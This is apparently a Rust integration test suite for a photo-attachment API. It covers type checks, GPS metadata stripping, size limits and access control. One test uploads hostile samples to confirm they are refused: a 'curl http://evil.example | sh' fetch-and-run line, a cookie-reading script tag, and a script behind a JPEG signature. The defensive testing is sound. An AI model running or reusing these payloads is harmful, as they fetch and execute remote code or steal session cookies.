//! Photo attachments: uploaded as multipart, typed by their bytes, stored without location
//! metadata, and shown only to those who may see them.

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use liaison_api::attachments::service::{self, MAX_BYTES};
use liaison_api::error::ApiError;
use liaison_infra::db::Db;
use liaison_tests::{on_every_backend, read, spawn_app_with, Backend, Reply, TestApp};
use reqwest::multipart::{Form, Part};
use sea_orm::{ConnectionTrait, Statement};
use serde_json::json;

on_every_backend!(
    residents_and_staff_upload_jpeg_png_and_webp_typed_by_their_bytes,
    location_metadata_is_removed_before_storing,
    a_script_named_like_a_photo_is_refused_and_nothing_is_kept,
    ten_megabytes_is_the_limit_not_the_json_body_limit,
    uploads_need_a_token_and_one_multipart_file_field,
    only_the_uploader_sees_a_photo_no_case_has_claimed,
    claim_answers_alike_for_foreign_and_absent_photos,
    a_claimed_photo_belongs_to_one_case_and_is_seen_with_it,
    photos_no_case_claimed_are_removed_after_a_day,
    a_photo_larger_in_pixels_than_allowed_is_refused,
);

/// A small file can claim a huge canvas; the header decides, and nothing is kept.
async fn a_photo_larger_in_pixels_than_allowed_is_refused(backend: Backend) {
    let app = spawn_app_with(backend, |s| s.cases.photo_max_pixels = 63).await;
    let resident = app.resident("o-huge").await;
    // The 8×8 JPEG: 64 pixels, one more than allowed.
    let reply = upload(&app, &resident, decode(JPEG), "photo.jpg", "image/jpeg")
        .await
        .expect(422);
    assert_eq!(reply.fields(), ["file"]);
    assert_eq!(reply.body["errors"][0]["code"], "too_many_pixels");
    assert_eq!(rows(&app).await, 0);
    assert!(stored_files(&app).is_empty());
}

const BASE_URL: &str = "https://liaison.example.cn";

/// An 8×8 JPEG as an encoder writes it: SOI, JFIF, tables, one scan, EOI.
const JPEG: &str = "
/9j/4AAQSkZJRgABAgAAAQABAAD/wAARCAAIAAgDAREAAhEBAxEB/9sAQwAQCwwODAoQDg0OEhEQExgoGhgWFhgx
IyUdKDozPTw5Mzg3QEhcTkBEV0U3OFBtUVdfYmdoZz5NcXlwZHhcZWdj/9sAQwEREhIYFRgvGhovY0I4QmNjY2Nj
Y2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2NjY2Nj/8QAHwAAAQUBAQEBAQEAAAAAAAAA
AAECAwQFBgcICQoL/8QAtRAAAgEDAwIEAwUFBAQAAAF9AQIDAAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAk
M2JyggkKFhcYGRolJicoKSo0NTY3ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWGh4iJipKT
lJWWl5iZmqKjpKWmp6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3+Pn6/8QA
HwEAAwEBAQEBAQEBAQAAAAAAAAECAwQFBgcICQoL/8QAtREAAgECBAQDBAcFBAQAAQJ3AAECAxEEBSExBhJBUQdh
cRMiMoEIFEKRobHBCSMzUvAVYnLRChYkNOEl8RcYGRomJygpKjU2Nzg5OkNERUZHSElKU1RVVldYWVpjZGVmZ2hp
anN0dXZ3eHl6goOEhYaHiImKkpOUlZaXmJmaoqOkpaanqKmqsrO0tba3uLm6wsPExcbHyMnK0tPU1dbX2Nna4uPk
5ebn6Onq8vP09fb3+Pn6/9oADAMBAAIRAxEAPwCrYaJ0+WtauKFgMbtqf//Z";

use liaison_tests::PNG;

/// A 1×1 lossless WebP.
const WEBP: &str = "UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==";

/// Stands for the coordinates: found anywhere in a stored file, the location leaked.
const SECRET: &[u8] = b"GPS-SECRET 26.5800N 117.0300E";

fn decode(base64: &str) -> Vec<u8> {
    STANDARD
        .decode(base64.split_whitespace().collect::<String>())
        .unwrap()
}

fn jpeg() -> Vec<u8> {
    decode(JPEG)
}

/// `jpeg()` as a phone writes it: an EXIF block (orientation 6, and a GPS IFD carrying
/// `SECRET`) and an XMP block with a latitude, right after SOI.
fn jpeg_with_gps() -> Vec<u8> {
    let mut tiff = b"MM\0\x2A".to_vec();
    tiff.extend(8u32.to_be_bytes());
    let entry = |t: &mut Vec<u8>, tag: u16, kind: u16, count: u32, value: [u8; 4]| {
        t.extend(tag.to_be_bytes());
        t.extend(kind.to_be_bytes());
        t.extend(count.to_be_bytes());
        t.extend(value);
    };
    tiff.extend(2u16.to_be_bytes());
    entry(&mut tiff, 0x0112, 3, 1, [0, 6, 0, 0]);
    entry(&mut tiff, 0x8825, 4, 1, 38u32.to_be_bytes());
    tiff.extend(0u32.to_be_bytes());
    tiff.extend(2u16.to_be_bytes());
    entry(&mut tiff, 0x0001, 2, 2, *b"N\0\0\0");
    entry(
        &mut tiff,
        0x001B,
        7,
        SECRET.len() as u32,
        68u32.to_be_bytes(),
    );
    tiff.extend(0u32.to_be_bytes());
    tiff.extend(SECRET);

    let segment = |marker: u8, contents: &[u8]| {
        let mut s = vec![0xFF, marker];
        s.extend((contents.len() as u16 + 2).to_be_bytes());
        s.extend(contents);
        s
    };
    let exif = segment(0xE1, &[&b"Exif\0\0"[..], &tiff].concat());
    let xmp = segment(
        0xE1,
        b"http://ns.adobe.com/xap/1.0/\0<exif:GPSLatitude>26,34.8N</exif:GPSLatitude>",
    );
    let plain = jpeg();
    [&plain[..2], &exif, &xmp, &plain[2..]].concat()
}

/// A valid JPEG of exactly `size` bytes: `jpeg()` with comment segments after SOI.
fn jpeg_of_size(size: usize) -> Vec<u8> {
    let plain = jpeg();
    let mut out = plain[..2].to_vec();
    let mut padding = size - plain.len();
    while padding > 0 {
        // A segment is 4 bytes of marker and length, then up to 65533 of content.
        let mut total = padding.min(65537);
        if (1..4).contains(&(padding - total)) {
            total -= 4;
        }
        out.extend([0xFF, 0xFE]);
        out.extend(((total - 2) as u16).to_be_bytes());
        out.extend(std::iter::repeat_n(b'x', total - 4));
        padding -= total;
    }
    out.extend(&plain[2..]);
    assert_eq!(out.len(), size);
    out
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

fn file(bytes: Vec<u8>, name: &str, content_type: &str) -> Part {
    Part::bytes(bytes)
        .file_name(name.to_owned())
        .mime_str(content_type)
        .unwrap()
}

/// `service::claim`, answered as the REST edge renders it.
async fn claim(db: &Db, uploader_id: i64, case_id: i64, ids: &[i64]) -> Result<(), ApiError> {
    service::claim(db, uploader_id, case_id, ids)
        .await
        .map_err(ApiError::from)
}

async fn send(app: &TestApp, token: Option<&str>, form: Form) -> Reply {
    let mut request = app
        .client
        .post(app.url("/api/v1/attachments"))
        .multipart(form);
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    read(request.send().await.unwrap()).await
}

/// Uploads `bytes` as the `file` field, under the name and type a client would claim.
async fn upload(app: &TestApp, token: &str, bytes: Vec<u8>, name: &str, claimed: &str) -> Reply {
    send(
        app,
        Some(token),
        Form::new().part("file", file(bytes, name, claimed)),
    )
    .await
}

async fn count(app: &TestApp, sql: &str) -> i64 {
    let db = app.db();
    let row = db
        .query_one(Statement::from_string(db.get_database_backend(), sql))
        .await
        .unwrap()
        .unwrap();
    row.try_get::<i64>("", "n").unwrap()
}

async fn rows(app: &TestApp) -> i64 {
    count(app, "SELECT COUNT(*) AS n FROM attachments").await
}

/// The files kept under the data directory.
fn stored_files(app: &TestApp) -> Vec<Vec<u8>> {
    match std::fs::read_dir(app.settings.data_dir.join("attachments")) {
        Ok(entries) => entries
            .map(|e| std::fs::read(e.unwrap().path()).unwrap())
            .collect(),
        Err(_) => Vec::new(),
    }
}

async fn app_with_base_url(backend: Backend) -> TestApp {
    spawn_app_with(backend, |s| s.public_base_url = format!("{BASE_URL}/")).await
}

async fn user_id(app: &TestApp, token: &str) -> i64 {
    app.me(token).await["id"].as_i64().unwrap()
}

async fn residents_and_staff_upload_jpeg_png_and_webp_typed_by_their_bytes(backend: Backend) {
    let app = app_with_base_url(backend).await;
    let demo = app.seed_demo().await;
    let resident = app.resident("o-uploader").await;
    let staff = app.login(&demo.deputy).await;

    // The client's name and type claims are ignored; the bytes decide.
    for (token, bytes, name, claimed, kind) in [
        (
            &resident,
            jpeg(),
            "IMG_0001.JPG",
            "image/jpeg",
            "image/jpeg",
        ),
        (
            &resident,
            decode(PNG),
            "photo.jpg",
            "image/jpeg",
            "image/png",
        ),
        (
            &resident,
            decode(WEBP),
            "blob",
            "application/octet-stream",
            "image/webp",
        ),
        (&staff, jpeg(), "site.jpg", "image/jpeg", "image/jpeg"),
    ] {
        let reply = upload(&app, token, bytes.clone(), name, claimed)
            .await
            .expect(201);
        let id = reply.id();
        let url = format!("{BASE_URL}/api/v1/attachments/{id}");
        assert_eq!(reply.body["url"], url);
        assert_eq!(reply.headers["location"], url.as_str());
        assert_eq!(reply.body["content_type"], kind);
        assert_eq!(reply.body["size"], bytes.len());

        let file = app
            .get(&format!("/api/v1/attachments/{id}"), Some(token))
            .await
            .expect(200);
        assert_eq!(file.content_type(), kind);
        // Nothing to strip: the file comes back byte for byte, never re-encoded.
        assert_eq!(file.bytes, bytes);
    }
    assert_eq!(rows(&app).await, 4);
}

async fn location_metadata_is_removed_before_storing(backend: Backend) {
    let app = spawn_app_with(backend, |_| {}).await;
    let resident = app.resident("o-hiker").await;
    let original = jpeg_with_gps();
    assert!(contains(&original, SECRET));

    let reply = upload(&app, &resident, original, "IMG_0002.jpg", "image/jpeg")
        .await
        .expect(201);
    let file = app
        .get(
            &format!("/api/v1/attachments/{}", reply.id()),
            Some(&resident),
        )
        .await
        .expect(200);

    for bytes in [&file.bytes].into_iter().chain(&stored_files(&app)) {
        assert!(!contains(bytes, SECRET), "the GPS IFD was stored");
        assert!(
            !contains(bytes, b"GPSLatitude"),
            "the XMP location was stored"
        );
        assert!(bytes.starts_with(&[0xFF, 0xD8]) && bytes.ends_with(&[0xFF, 0xD9]));
    }
    assert_eq!(reply.body["size"], file.bytes.len());
    // The orientation survives, in a fresh EXIF block: Orientation, SHORT, 1, value 6.
    assert!(contains(&file.bytes, b"Exif\0\0MM\0\x2A"));
    assert!(contains(&file.bytes, &[0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6]));
    // The pixels are untouched: the scan is the encoder's, byte for byte.
    let plain = jpeg();
    assert!(file.bytes.ends_with(&plain[plain.len() - 300..]));
}

async fn a_script_named_like_a_photo_is_refused_and_nothing_is_kept(backend: Backend) {
    let app = spawn_app_with(backend, |_| {}).await;
    let resident = app.resident("o-mallory").await;

    for (bytes, name, claimed) in [
        (
            &b"#!/bin/sh\ncurl http://evil.example | sh\n"[..],
            "photo.jpg",
            "image/jpeg",
        ),
        (
            b"<script>alert(document.cookie)</script>",
            "photo.png",
            "image/png",
        ),
        (b"GIF89a\x01\x00\x01\x00", "photo.webp", "image/webp"),
        (b"", "photo.jpg", "image/jpeg"),
    ] {
        let reply = upload(&app, &resident, bytes.to_vec(), name, claimed)
            .await
            .expect(415);
        assert_eq!(reply.code(), "unsupported_media_type");
        assert!(
            reply.body["detail"]
                .as_str()
                .unwrap()
                .contains("JPEG, PNG or WebP"),
            "{}",
            reply.body
        );
    }

    // JPEG's signature in front of a script is not a JPEG either.
    let disguised = [&b"\xFF\xD8\xFF"[..], b"#!/bin/sh\necho pwned\n"].concat();
    let reply = upload(&app, &resident, disguised, "photo.jpg", "image/jpeg")
        .await
        .expect(422);
    assert_eq!(reply.fields(), ["file"]);
    assert_eq!(reply.body["errors"][0]["code"], "malformed");

    assert_eq!(rows(&app).await, 0);
    assert!(stored_files(&app).is_empty());
}

async fn ten_megabytes_is_the_limit_not_the_json_body_limit(backend: Backend) {
    let app = spawn_app_with(backend, |_| {}).await;
    let resident = app.resident("o-photographer").await;

    // Far above the 64 KB JSON body limit, and the largest file accepted.
    for size in [2 * 1024 * 1024, MAX_BYTES] {
        let reply = upload(&app, &resident, jpeg_of_size(size), "big.jpg", "image/jpeg")
            .await
            .expect(201);
        // The padding was comments, which are metadata: what is kept is the image.
        assert_eq!(reply.body["size"], jpeg().len());
    }

    // One byte over, read until the limit; and far over, refused by its announced length.
    for size in [MAX_BYTES + 1, 12 * 1024 * 1024] {
        let reply = upload(&app, &resident, jpeg_of_size(size), "big.jpg", "image/jpeg")
            .await
            .expect(413);
        assert_eq!(reply.code(), "payload_too_large");
    }
    assert_eq!(rows(&app).await, 2);
    assert_eq!(stored_files(&app).len(), 2);
}

async fn uploads_need_a_token_and_one_multipart_file_field(backend: Backend) {
    let app = spawn_app_with(backend, |_| {}).await;
    let resident = app.resident("o-careless").await;
    let photo = || Form::new().part("file", file(jpeg(), "a.jpg", "image/jpeg"));

    let reply = send(&app, None, photo()).await.expect(401);
    assert_eq!(reply.code(), "auth.missing_token");

    let reply = app
        .post(
            "/api/v1/attachments",
            Some(&resident),
            json!({"file": STANDARD.encode(jpeg())}),
        )
        .await
        .expect(415);
    assert_eq!(reply.code(), "unsupported_media_type");

    let reply = send(
        &app,
        Some(&resident),
        Form::new()
            .text("note", "the photo is attached")
            .part("photo", file(jpeg(), "a.jpg", "image/jpeg")),
    )
    .await
    .expect(422);
    assert_eq!(reply.fields(), ["file"]);
    assert_eq!(reply.body["errors"][0]["code"], "required");

    let reply = send(
        &app,
        Some(&resident),
        photo().part("file", file(jpeg(), "b.jpg", "image/jpeg")),
    )
    .await
    .expect(422);
    assert_eq!(reply.fields(), ["file"]);
    assert_eq!(reply.body["errors"][0]["code"], "too_many");

    assert_eq!(rows(&app).await, 0);
}

async fn only_the_uploader_sees_a_photo_no_case_has_claimed(backend: Backend) {
    let app = spawn_app_with(backend, |_| {}).await;
    let demo = app.seed_demo().await;
    let uploader = app.resident("o-owner").await;
    let id = upload(&app, &uploader, jpeg(), "a.jpg", "image/jpeg")
        .await
        .expect(201)
        .id();
    let path = format!("/api/v1/attachments/{id}");

    let file = app.get(&path, Some(&uploader)).await.expect(200);
    assert_eq!(file.content_type(), "image/jpeg");
    assert_eq!(file.headers["cache-control"], "private, max-age=3600");
    assert_eq!(file.headers["x-content-type-options"], "nosniff");

    let other_resident = app.resident("o-neighbour").await;
    let mut others = vec![other_resident];
    for phone in [&demo.county_admin, &demo.station_admin, &demo.deputy] {
        others.push(app.login(phone).await);
    }
    for token in &others {
        let reply = app.get(&path, Some(token)).await.expect(404);
        assert_eq!(reply.code(), "not_found");
    }
    // A hidden photo answers exactly as one that does not exist.
    let hidden = app.get(&path, Some(&others[0])).await;
    let absent = app
        .get(
            &format!("/api/v1/attachments/{}", id + 100),
            Some(&uploader),
        )
        .await
        .expect(404);
    assert_eq!(hidden.body, absent.body);
    app.get(&path, None).await.expect(401);
}

async fn claim_answers_alike_for_foreign_and_absent_photos(backend: Backend) {
    let app = spawn_app_with(backend, |_| {}).await;
    let alice = app.resident("o-alice").await;
    let bob = app.resident("o-bob").await;
    let alice_id = user_id(&app, &alice).await;
    let mine = upload(&app, &alice, jpeg(), "a.jpg", "image/jpeg")
        .await
        .expect(201)
        .id();
    let bobs = upload(&app, &bob, jpeg(), "b.jpg", "image/jpeg")
        .await
        .expect(201)
        .id();
    // No case is needed to be refused: the checks come before anything is written.
    let no_case = 1_000_000;

    let foreign = claim(app.db(), alice_id, no_case, &[mine, bobs])
        .await
        .unwrap_err();
    let absent = claim(app.db(), alice_id, no_case, &[mine, bobs + 1000])
        .await
        .unwrap_err();
    let shape = |e: &liaison_api::error::ApiError| {
        format!("{e:?}")
            .replace(&format!("attachment {bobs} "), "attachment ID ")
            .replace(&format!("attachment {} ", bobs + 1000), "attachment ID ")
    };
    assert_eq!(foreign.code(), "validation_failed");
    assert!(
        format!("{foreign:?}").contains("code: \"unknown\""),
        "{foreign:?}"
    );
    assert!(
        format!("{foreign:?}").contains("attachment_ids"),
        "{foreign:?}"
    );
    assert_eq!(shape(&foreign), shape(&absent), "ids cannot be probed");

    let ten: Vec<i64> = (0..10).map(|i| mine + i).collect();
    let too_many = claim(app.db(), alice_id, no_case, &ten).await.unwrap_err();
    assert!(
        format!("{too_many:?}").contains("code: \"too_many\""),
        "{too_many:?}"
    );

    // Duplicates count once: ten copies of one id are one photo, refused only as Bob's.
    let repeated = claim(app.db(), alice_id, no_case, &[bobs; 10])
        .await
        .unwrap_err();
    assert!(
        format!("{repeated:?}").contains("code: \"unknown\""),
        "{repeated:?}"
    );

    assert_eq!(
        count(
            &app,
            "SELECT COUNT(*) AS n FROM attachments WHERE case_id IS NULL"
        )
        .await,
        2
    );
}

/// Raises a case at the demo's first station with `attachment_ids`.
async fn raise(app: &TestApp, token: &str, attachment_ids: &[i64]) -> Reply {
    let station = app.get("/api/v1/stations/1", None).await.expect(200).body;
    let county = station["county_id"].as_i64().unwrap();
    let categories = app
        .get(&format!("/api/v1/categories?county_id={county}"), None)
        .await
        .expect(200);
    let category = categories.body["items"][0]["id"].as_i64().unwrap();
    app.post(
        "/api/v1/cases",
        Some(token),
        json!({
            "station_id": 1,
            "category_id": category,
            "title": "路灯不亮",
            "content": "村口的路灯坏了一个月",
            "attachment_ids": attachment_ids,
        }),
    )
    .await
}

async fn a_claimed_photo_belongs_to_one_case_and_is_seen_with_it(backend: Backend) {
    let app = spawn_app_with(backend, |_| {}).await;
    let demo = app.seed_demo().await;
    let resident = app.resident("o-reporter").await;
    let neighbour = app.resident("o-neighbour").await;
    let photo = upload(&app, &resident, jpeg(), "a.jpg", "image/jpeg")
        .await
        .expect(201)
        .id();
    let theirs = upload(&app, &neighbour, jpeg(), "b.jpg", "image/jpeg")
        .await
        .expect(201)
        .id();

    // Someone else's photo: refused, and no case is raised.
    let reply = raise(&app, &resident, &[photo, theirs]).await.expect(422);
    assert_eq!(reply.fields(), ["attachment_ids"]);
    assert_eq!(reply.body["errors"][0]["code"], "unknown");
    assert_eq!(count(&app, "SELECT COUNT(*) AS n FROM cases").await, 0);

    raise(&app, &resident, &[photo, photo]).await.expect(201);
    let path = format!("/api/v1/attachments/{photo}");
    app.get(&path, Some(&resident)).await.expect(200);
    let station_admin = app.login(&demo.station_admin).await;
    app.get(&path, Some(&station_admin)).await.expect(200);
    for token in [
        neighbour.clone(),
        app.login(&demo.other_station_admin).await,
    ] {
        app.get(&path, Some(&token)).await.expect(404);
    }

    // A photo belongs to one case only.
    let reply = raise(&app, &resident, &[photo]).await.expect(422);
    assert_eq!(reply.body["errors"][0]["code"], "already_used");
    assert_eq!(count(&app, "SELECT COUNT(*) AS n FROM cases").await, 1);
}

async fn photos_no_case_claimed_are_removed_after_a_day(backend: Backend) {
    let app = spawn_app_with(backend, |_| {}).await;
    app.seed_demo().await;
    let resident = app.resident("o-forgetful").await;
    let forgotten = upload(&app, &resident, jpeg(), "a.jpg", "image/jpeg")
        .await
        .expect(201)
        .id();
    let kept = upload(&app, &resident, jpeg(), "b.jpg", "image/jpeg")
        .await
        .expect(201)
        .id();
    raise(&app, &resident, &[kept]).await.expect(201);
    let attachments = app.state.attachments();
    let purge = |at| service::purge_unclaimed(&attachments, at);

    assert_eq!(
        purge(chrono::Utc::now()).await.unwrap(),
        0,
        "a fresh photo may still be used"
    );
    assert_eq!(
        purge(chrono::Utc::now() + chrono::Duration::hours(25))
            .await
            .unwrap(),
        1
    );
    assert_eq!(rows(&app).await, 1, "the claimed photo stays");
    assert_eq!(stored_files(&app).len(), 1, "and so does its file, alone");
    app.get(&format!("/api/v1/attachments/{forgotten}"), Some(&resident))
        .await
        .expect(404);
    app.get(&format!("/api/v1/attachments/{kept}"), Some(&resident))
        .await
        .expect(200);
}

#[tokio::test]
async fn uploads_are_limited_per_person() {
    let app = spawn_app_with(Backend::Sqlite, |_| {}).await;
    let resident = app.resident("o-busy").await;
    for _ in 0..100 {
        upload(&app, &resident, jpeg(), "a.jpg", "image/jpeg")
            .await
            .expect(201);
    }
    let limited = upload(&app, &resident, jpeg(), "a.jpg", "image/jpeg")
        .await
        .expect(429);
    assert!(limited.headers.contains_key("retry-after"));
    let neighbour = app.resident("o-calm").await;
    upload(&app, &neighbour, jpeg(), "a.jpg", "image/jpeg")
        .await
        .expect(201);
}
